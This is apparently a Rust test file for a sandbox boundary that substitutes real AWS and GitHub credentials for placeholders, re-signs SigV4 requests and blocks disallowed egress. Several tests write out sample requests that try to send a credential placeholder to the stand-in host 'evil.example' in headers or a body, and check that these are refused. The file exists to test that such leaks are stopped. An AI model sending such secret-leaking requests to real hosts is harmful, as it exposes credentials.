//! Credentials that are not bearer tokens, in memory: AWS SigV4 re-signing, `require`, and
//! readable refusals, on the real inspected-HTTP path (`standin_boundary::testing`). The
//! end-to-end tests with boto3, the AWS CLI and an S3 server that checks signatures are in
//! `standin-cli/tests/aws.rs`.

use aws_credential_types::Credentials;
use aws_sigv4::http_request::{
    PercentEncodingMode, SignableBody, SignableRequest, SigningSettings, UriPathNormalizationMode,
    sign,
};
use aws_smithy_runtime_api::client::identity::Identity;
use standin_boundary::testing::{Case, Outcome, exchange};
use standin_policy::egress::DomainName;
use standin_policy::secrets::{
    AwsSigV4, Refusal, SecretEntry, SecretInjection, SecretSet, SecretValue, ViolationAction,
    ViolationPolicy,
};
use std::sync::Arc;
use std::time::SystemTime;

const KEY_ID: &str = "AKIAIOSFODNN7EXAMPLE";
const REAL_KEY: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
const KEY_PH: &str = "$MSB_AWS_SECRET_ACCESS_KEY";
const S3: &str = "s3.eu-west-1.amazonaws.com";
const EVIL: &str = "evil.example";
const EMPTY_SHA: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

fn aws_entry() -> SecretEntry {
    SecretEntry {
        env_var: "AWS_SECRET_ACCESS_KEY".into(),
        value: SecretValue::new(REAL_KEY),
        placeholder: KEY_PH.into(),
        allowed_hosts: vec![DomainName::parse(S3).unwrap()],
        allowed_host_patterns: Vec::new(),
        allow_any_host: false,
        require_tls_identity: true,
        injection: SecretInjection::default(),
        on_violation: None,
        aws: Some(AwsSigV4 {
            access_key_id: KEY_ID.into(),
            regions: vec!["eu-west-1".into()],
            services: vec!["s3".into()],
        }),
        require: false,
        retired: Vec::new(),
    }
}

fn set(entries: Vec<SecretEntry>, action: ViolationAction) -> Arc<SecretSet> {
    Arc::new(SecretSet {
        entries,
        on_violation: ViolationPolicy {
            action: Some(action),
            ..ViolationPolicy::default()
        },
    })
}

/// What an AWS SDK sends, signed with `key` (the placeholder, inside the sandbox).
fn signed_request(
    method: &str,
    host: &str,
    path: &str,
    region: &str,
    payload: &str,
    body: &str,
    key: &str,
) -> String {
    let time = SystemTime::now();
    let date = time_text(time);
    let headers = [
        ("host", host.to_owned()),
        ("x-amz-content-sha256", payload.to_owned()),
        ("x-amz-date", date.clone()),
    ];
    let auth = authorization(method, host, path, region, payload, &headers, key, time);
    format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nX-Amz-Content-SHA256: {payload}\r\nX-Amz-Date: {date}\r\nAuthorization: {auth}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

#[allow(
    clippy::too_many_arguments,
    reason = "a test helper mirroring SigV4's inputs"
)]
fn authorization(
    method: &str,
    host: &str,
    path: &str,
    region: &str,
    payload: &str,
    headers: &[(&str, String)],
    key: &str,
    time: SystemTime,
) -> String {
    let identity: Identity = Credentials::new(KEY_ID, key, None, None, "test").into();
    let mut settings = SigningSettings::default();
    settings.percent_encoding_mode = PercentEncodingMode::Single;
    settings.uri_path_normalization_mode = UriPathNormalizationMode::Disabled;
    let params = aws_sigv4::sign::v4::SigningParams::builder()
        .identity(&identity)
        .region(region)
        .name("s3")
        .time(time)
        .settings(settings)
        .build()
        .unwrap()
        .into();
    let body = match payload {
        "UNSIGNED-PAYLOAD" => SignableBody::UnsignedPayload,
        h => SignableBody::Precomputed(h.to_owned()),
    };
    let req = SignableRequest::new(
        method,
        format!("https://{host}{path}"),
        headers
            .iter()
            .filter(|(n, _)| *n != "x-amz-date")
            .map(|(n, v)| (*n, v.as_str())),
        body,
    )
    .unwrap();
    let (instructions, _) = sign(req, &params).unwrap().into_parts();
    instructions
        .headers()
        .find(|(n, _)| n.eq_ignore_ascii_case("authorization"))
        .unwrap()
        .1
        .to_owned()
}

/// `X-Amz-Date`'s form of `t`: `YYYYMMDDTHHMMSSZ`.
fn time_text(t: SystemTime) -> String {
    let t = time::OffsetDateTime::from(t);
    format!(
        "{:04}{:02}{:02}T{:02}{:02}{:02}Z",
        t.year(),
        u8::from(t.month()),
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

/// The time an `X-Amz-Date` names.
fn parse_time(text: &str) -> Option<SystemTime> {
    let n = |r: std::ops::Range<usize>| text.get(r)?.parse::<u8>().ok();
    let year: i32 = text.get(0..4)?.parse().ok()?;
    let month = time::Month::try_from(n(4..6)?).ok()?;
    let date = time::Date::from_calendar_date(year, month, n(6..8)?).ok()?;
    let clock = time::Time::from_hms(n(9..11)?, n(11..13)?, n(13..15)?).ok()?;
    Some(
        time::PrimitiveDateTime::new(date, clock)
            .assume_utc()
            .into(),
    )
}

/// The value of header `name` in what the destination received.
fn header(text: &str, name: &str) -> Option<String> {
    text.split("\r\n").find_map(|l| {
        let (n, v) = l.split_once(':')?;
        n.eq_ignore_ascii_case(name).then(|| v.trim().to_owned())
    })
}

/// Check the signature the destination received as AWS would: recompute it with the real
/// key over what arrived.
fn verify(got: &str, method: &str, path: &str, payload: &str, key: &str) -> bool {
    let Some(auth) = header(got, "authorization") else {
        return false;
    };
    let date = header(got, "x-amz-date").unwrap();
    // The time the boundary signed at, to the second.
    let Some(t) = parse_time(&date) else {
        return false;
    };
    let headers = [
        ("host", header(got, "host").unwrap()),
        ("x-amz-content-sha256", payload.to_owned()),
        ("x-amz-date", date),
    ];
    authorization(method, S3, path, "eu-west-1", payload, &headers, key, t) == auth
}

#[tokio::test(start_paused = true)]
async fn a_sigv4_request_is_signed_afresh_with_the_real_key() {
    let case = Case::tls(set(vec![aws_entry()], ViolationAction::BlockAndLog), S3);
    let req = signed_request(
        "GET",
        S3,
        "/bucket/a%20key",
        "eu-west-1",
        EMPTY_SHA,
        "",
        KEY_PH,
    );
    let client_auth = header(&req, "authorization").unwrap();
    let out: Outcome = exchange(&case, req.as_bytes()).await;
    let got = out.upstream_text();
    assert!(!out.blocked, "{got}\n{}", out.events_json());
    let auth = header(&got, "authorization").unwrap();
    assert_ne!(auth, client_auth, "the placeholder's signature went out");
    assert!(
        auth.contains(&format!("Credential={KEY_ID}/")) && auth.contains("/eu-west-1/s3/"),
        "{auth}"
    );
    assert!(
        verify(&got, "GET", "/bucket/a%20key", EMPTY_SHA, REAL_KEY),
        "the signature does not verify with the real key:\n{got}"
    );
    assert!(!verify(&got, "GET", "/bucket/a%20key", EMPTY_SHA, KEY_PH));
    assert!(!got.contains(REAL_KEY), "{got}");

    // UNSIGNED-PAYLOAD is kept as the client declared it.
    let req = signed_request(
        "PUT",
        S3,
        "/bucket/k",
        "eu-west-1",
        "UNSIGNED-PAYLOAD",
        "hello",
        KEY_PH,
    );
    let out = exchange(&case, req.as_bytes()).await;
    let got = out.upstream_text();
    assert!(!out.blocked, "{}", out.events_json());
    assert!(
        verify(&got, "PUT", "/bucket/k", "UNSIGNED-PAYLOAD", REAL_KEY),
        "{got}"
    );
    assert!(got.ends_with("hello"), "{got}");
}

#[tokio::test(start_paused = true)]
async fn sigv4_with_the_key_id_elsewhere_is_a_violation() {
    let case = Case::tls(set(vec![aws_entry()], ViolationAction::BlockAndLog), EVIL);
    let req = signed_request("GET", EVIL, "/", "eu-west-1", EMPTY_SHA, "", KEY_PH);
    let out = exchange(&case, req.as_bytes()).await;
    assert!(out.blocked);
    assert!(out.upstream_received.is_empty(), "{}", out.upstream_text());
    let ev = out.events_json();
    assert!(
        ev.contains("secret-violation") && ev.contains("AWS_SECRET_ACCESS_KEY"),
        "{ev}"
    );
    // A mangled header that still names the key ID is recognised too.
    let mangled = req.replace(
        "AWS4-HMAC-SHA256 Credential",
        "aws4-hmac-sha256   Credential",
    );
    let mangled = mangled.replace("Signature=", "Sig=");
    let out = exchange(&case, mangled.as_bytes()).await;
    assert!(out.blocked && out.upstream_received.is_empty());
}

#[tokio::test(start_paused = true)]
async fn what_cannot_be_re_signed_is_refused() {
    let case = Case::tls(set(vec![aws_entry()], ViolationAction::BlockAndLog), S3);
    let refused = |out: &Outcome, why: &str| {
        assert!(out.blocked, "{}", out.upstream_text());
        assert!(out.upstream_received.is_empty(), "{}", out.upstream_text());
        let ev = out.events_json();
        assert!(ev.contains("request-blocked") && ev.contains(why), "{ev}");
    };
    let chunked = signed_request(
        "PUT",
        S3,
        "/b/k",
        "eu-west-1",
        "STREAMING-AWS4-HMAC-SHA256-PAYLOAD",
        "x",
        KEY_PH,
    );
    refused(&exchange(&case, chunked.as_bytes()).await, "chunk-signed");
    let region = signed_request("GET", S3, "/", "us-east-1", EMPTY_SHA, "", KEY_PH);
    refused(&exchange(&case, region.as_bytes()).await, "us-east-1");
    let presigned = format!(
        "GET /b/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={KEY_ID}%2F20260101%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Signature=00 HTTP/1.1\r\nHost: {S3}\r\n\r\n"
    );
    refused(&exchange(&case, presigned.as_bytes()).await, "presigned");
    let malformed = signed_request("GET", S3, "/", "eu-west-1", EMPTY_SHA, "", KEY_PH)
        .replace("SignedHeaders=", "Headers=");
    refused(
        &exchange(&case, malformed.as_bytes()).await,
        "does not parse",
    );
}

fn token_entry(require: bool) -> SecretEntry {
    SecretEntry {
        env_var: "GITHUB_TOKEN".into(),
        value: SecretValue::new("ghp_real0123456789"),
        placeholder: "$MSB_GITHUB_TOKEN".into(),
        allowed_hosts: vec![DomainName::parse("api.github.com").unwrap()],
        aws: None,
        require,
        ..aws_entry()
    }
}

#[tokio::test(start_paused = true)]
async fn require_refuses_requests_without_the_managed_secret() {
    let case = Case::tls(
        set(vec![token_entry(true)], ViolationAction::BlockAndLog),
        "api.github.com",
    );
    let own =
        "GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer ghp_agents0wn\r\n\r\n";
    let out = exchange(&case, own.as_bytes()).await;
    assert!(out.blocked && out.upstream_received.is_empty());
    assert!(
        out.events_json().contains("require"),
        "{}",
        out.events_json()
    );
    let managed = "GET /user HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer $MSB_GITHUB_TOKEN\r\n\r\n";
    let out = exchange(&case, managed.as_bytes()).await;
    assert!(!out.blocked, "{}", out.events_json());
    assert!(out.upstream_text().contains("Bearer ghp_real0123456789"));
    // Without require the agent's own credential goes through.
    let open = Case::tls(
        set(vec![token_entry(false)], ViolationAction::BlockAndLog),
        "api.github.com",
    );
    let out = exchange(&open, own.as_bytes()).await;
    assert!(!out.blocked && out.upstream_text().contains("ghp_agents0wn"));
}

#[tokio::test(start_paused = true)]
async fn readable_refusals_answer_403_and_send_nothing() {
    let mut case = Case::tls(
        set(vec![token_entry(false)], ViolationAction::BlockAndLog),
        EVIL,
    );
    case.refusal = Refusal::Forbidden;
    let leak = format!(
        "GET /x HTTP/1.1\r\nHost: {EVIL}\r\nAuthorization: Bearer $MSB_GITHUB_TOKEN\r\n\r\n"
    );
    let out = exchange(&case, leak.as_bytes()).await;
    let back = out.client_text();
    assert!(out.upstream_received.is_empty(), "{}", out.upstream_text());
    assert!(back.starts_with("HTTP/1.1 403 Forbidden"), "{back}");
    assert!(
        back.contains("the secret GITHUB_TOKEN may not be sent to evil.example")
            && back.contains("action block-and-log"),
        "{back}"
    );
    assert!(!back.contains("ghp_real"), "{back}");
    assert!(out.events_json().contains("secret-violation"));
    // In a body too (found while the body is read ahead, before anything went upstream).
    let body = "{\"token\": \"$MSB_GITHUB_TOKEN\"}";
    let post = format!(
        "POST /x HTTP/1.1\r\nHost: {EVIL}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let out = exchange(&case, post.as_bytes()).await;
    assert!(out.upstream_received.is_empty(), "{}", out.upstream_text());
    assert!(
        out.client_text().starts_with("HTTP/1.1 403") && out.client_text().contains("body"),
        "{}",
        out.client_text()
    );
    // Block-and-terminate keeps the reset: the sandbox is being killed.
    let mut kill = Case::tls(
        set(vec![token_entry(false)], ViolationAction::BlockAndTerminate),
        EVIL,
    );
    kill.refusal = Refusal::Forbidden;
    let out = exchange(&kill, leak.as_bytes()).await;
    assert!(out.blocked && out.client_received.is_empty());
    // The default is a reset.
    case.refusal = Refusal::Reset;
    let out = exchange(&case, leak.as_bytes()).await;
    assert!(out.blocked && out.client_received.is_empty());
}
